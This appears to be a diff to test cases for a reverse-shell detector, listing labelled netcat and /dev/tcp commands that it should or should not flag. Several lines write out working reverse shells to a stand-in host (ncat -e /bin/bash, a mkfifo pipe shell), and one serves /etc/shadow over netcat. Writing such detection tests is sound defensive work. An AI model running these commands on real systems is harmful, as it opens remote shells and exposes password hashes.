@@ -33,6 +33,8 @@ indicatorTable(commandReverseShell, {
     'ncat in shell text': script('ncat --ssl 203.0.113.7 3116 -e /bin/bash;'),
     'ncat as the entrypoint of its image': passes('example/ncat', '203.0.113.7', '8989', '-e', '/bin/bash'),
     'netcat with the option in a cluster': script('nc -lvnpe 4444 /bin/sh'),
+    'netcat of busybox that hands out a file': script('nc -l -p 8080 -e /bin/cat /etc/shadow'),
+    'netcat that hands out a program of its own': script('nc -lk -p 8080 -e /opt/answer'),
     'netcat of busybox with -c': runs('busybox', 'nc', '203.0.113.7', '4444', '-c', '/bin/sh'),
     'a named pipe and netcat': script(
       'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f',
@@ -177,6 +179,8 @@ indicatorTable(commandReverseShell, {
     'a port test with the network device': script("timeout 1 bash -c '</dev/tcp/db.example.com/5432' && echo up"),
     'a port test that writes': script('(echo > /dev/tcp/db/5432) >/dev/null 2>&1'),
     'an HTTP request without curl': script('exec 3<>/dev/tcp/web/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'),
+    'netcat that answers with what it gets': runs('nc', '-l', '-k', '-p', '7007', '-e', '/bin/cat'),
+    'netcat that tells the time': script('while true; do nc -l -e /bin/date -p 1313; done'),
     'netcat as a port test': script('until nc -z db 5432; do sleep 1; done'),
     'netcat that sends a metric': script('echo "backup.ok 1 $(date +%s)" | nc -w 1 graphite 2003'),
     'a script whose output is sent': script('sh /scripts/metrics.sh | nc graphite 2003'),
